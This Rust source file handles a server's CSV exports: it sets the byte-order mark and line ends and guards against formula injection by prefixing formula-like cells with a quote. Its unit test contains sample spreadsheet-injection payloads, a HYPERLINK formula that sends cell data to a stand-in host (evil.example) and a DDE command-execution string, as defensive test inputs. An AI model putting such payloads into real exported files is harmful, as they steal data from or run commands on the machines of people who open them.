//! Every CSV the server exports is written through [`CsvExport`]: CRLF line
//! ends, a UTF-8 byte-order mark (so Excel reads Vietnamese right), and
//! every cell neutralised against formula injection.
//!
//! A cell that a spreadsheet would run as a formula — one starting with
//! `=`, `+`, `-`, `@`, a tab or a carriage return — gets a leading `'`, as
//! OWASP's "CSV Injection" page recommends, so Excel shows it as text: a
//! child's answer or a forum's text `=HYPERLINK(…)` stays words. Plain
//! numbers (`-3`, `+84`) are left as they are, so they stay numbers.

use crate::error::ServerError;

/// The byte-order mark that makes Excel read a CSV file as UTF-8.
pub const UTF8_BOM: &str = "\u{feff}";

/// An HTTP answer that downloads `body` as the CSV file `name`.
pub(crate) fn csv_response(name: &str, body: String) -> axum::response::Response {
    use axum::response::IntoResponse;
    (
        [
            (
                axum::http::header::CONTENT_TYPE,
                "text/csv; charset=utf-8".to_owned(),
            ),
            (
                axum::http::header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{name}\""),
            ),
        ],
        body,
    )
        .into_response()
}

/// The answer with a CSV file written as it is read (an export too large
/// to hold in memory).
pub(crate) fn csv_stream_response(name: &str, body: axum::body::Body) -> axum::response::Response {
    let mut response = csv_response(name, String::new());
    *response.body_mut() = body;
    response
}

/// A CSV file being written in memory, cell by cell neutralised.
pub struct CsvExport {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for CsvExport {
    fn default() -> Self {
        Self::new()
    }
}

impl CsvExport {
    /// An empty export.
    pub fn new() -> CsvExport {
        CsvExport {
            writer: csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .from_writer(Vec::new()),
        }
    }

    /// Writes one row, each cell made safe for spreadsheets.
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), ServerError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.writer
            .write_record(cells.into_iter().map(|cell| safe_cell(cell.as_ref())))
            .map_err(|error| ServerError::Internal(format!("writing CSV: {error}")))
    }

    /// The rows alone, to follow a file's earlier rows (no byte-order mark).
    pub fn finish_part(self) -> Result<String, ServerError> {
        let bytes = self
            .writer
            .into_inner()
            .map_err(|error| ServerError::Internal(format!("writing CSV: {error}")))?;
        String::from_utf8(bytes)
            .map_err(|error| ServerError::Internal(format!("writing CSV: {error}")))
    }

    /// The file: the byte-order mark, then the rows.
    pub fn finish(self) -> Result<String, ServerError> {
        let bytes = self
            .writer
            .into_inner()
            .map_err(|error| ServerError::Internal(format!("writing CSV: {error}")))?;
        Ok(format!("{UTF8_BOM}{}", String::from_utf8_lossy(&bytes)))
    }
}

/// `text` as a spreadsheet will show it, never run it: a leading `'` when
/// it starts like a formula and is not a plain number.
pub fn safe_cell(text: &str) -> String {
    let starts_like_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if starts_like_formula && !is_plain_number(text) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// A sign, digits, at most one decimal point, nothing else.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let mut points = 0;
    !digits.is_empty()
        && digits.chars().all(|character| match character {
            '0'..='9' => true,
            '.' => {
                points += 1;
                points == 1
            }
            _ => false,
        })
        && digits.chars().any(|character| character.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for (cell, expected) in [
            ("=1+1", "'=1+1"),
            (
                "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")",
                "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("-3", "-3"),
            ("+84", "+84"),
            ("-0.5", "-0.5"),
            ("12", "12"),
            ("Em thấy an toàn", "Em thấy an toàn"),
            ("", ""),
            ("a=b", "a=b"),
        ] {
            assert_eq!(safe_cell(cell), expected, "{cell:?}");
        }
    }
}
